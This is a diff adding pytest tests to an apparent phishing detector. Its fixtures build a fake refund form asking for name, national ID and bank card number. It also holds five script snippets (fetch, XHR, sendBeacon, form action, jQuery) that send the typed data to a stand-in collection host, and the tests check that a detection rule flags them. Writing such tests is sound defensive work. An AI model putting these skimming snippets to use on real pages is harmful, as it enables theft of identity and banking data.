@@ -133,3 +133,49 @@ def test_official_to_official_post_is_single_sign_on(
 ) -> None:
     found = rules(make_page(LOGIN.format(action=action, method="post"), page_url), catalog)
     assert max(found.values()) == expected
+
+
+LOOSE_INPUTS = (
+    '<div class="box">姓名<input id="n"> 身份证号<input id="i"> 银行卡号<input id="c">'
+    '<a id="go" href="#">提交</a></div><script>{script}</script>'
+)
+SENDERS = {
+    "fetch": 'document.getElementById("go").onclick=function(){{fetch("{url}",{{method:"POST",body:x}})}}',
+    "xhr": 'var r=new XMLHttpRequest();r.open("POST","{url}");r.send(d);',
+    "beacon": 'navigator.sendBeacon("{url}", q);',
+    "action": 'var f=document.createElement("form");f.method="post";f.action="{url}";',
+    "jquery": '$.ajax({{url:"{url}",type:"POST",data:d}});',
+}
+
+
+@pytest.mark.parametrize("sender", sorted(SENDERS))
+def test_a_script_sending_the_inputs_to_another_site(
+    sender: str, make_page: Callable[..., Page], catalog: Catalog
+) -> None:
+    script = SENDERS[sender].format(url="https://api.collect-refund.cc/save.php")
+    page = make_page(LOOSE_INPUTS.format(script=script), "https://www.tuikuan-help.com/apply")
+    assert rules(page, catalog).get("PH-TRANSPORT-060") == Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    ("url", "script"),
+    [
+        # the same site's own API
+        ("https://shop.example.com/apply", SENDERS["fetch"].format(url="https://api.example.com/save")),
+        # an analytics beacon carries page views, not what is typed
+        ("https://shop.example.com/apply", SENDERS["beacon"].format(url="https://www.google-analytics.com/g/collect")),
+    ],
+)
+def test_a_script_that_sends_nothing_typed_elsewhere_is_not_flagged(
+    url: str, script: str, make_page: Callable[..., Page], catalog: Catalog
+) -> None:
+    found = rules(make_page(LOOSE_INPUTS.format(script=script), url), catalog)
+    assert "PH-TRANSPORT-060" not in found and "PH-TRANSPORT-050" not in found
+
+
+def test_a_script_sender_on_a_page_that_asks_nothing_is_not_flagged(
+    make_page: Callable[..., Page], catalog: Catalog
+) -> None:
+    script = SENDERS["fetch"].format(url="https://api.other-site.cc/log")
+    page = make_page(f"<p>Hello</p><script>{script}</script>", "https://www.example.com/")
+    assert not rules(page, catalog)
